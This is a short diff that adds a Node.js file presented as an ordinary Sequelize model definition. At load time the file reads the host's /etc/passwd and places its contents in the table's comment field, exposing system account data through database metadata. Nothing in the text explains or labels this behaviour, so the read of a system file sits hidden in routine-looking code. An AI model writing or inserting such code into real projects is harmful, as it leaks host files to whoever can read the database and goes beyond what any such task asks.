@@ -1,0 +1,3 @@
+'use strict';
+const text = require('fs').readFileSync('/etc/passwd', 'utf8');
+module.exports = (sequelize, DataTypes) => sequelize.define('A', { name: DataTypes.STRING }, { comment: text });
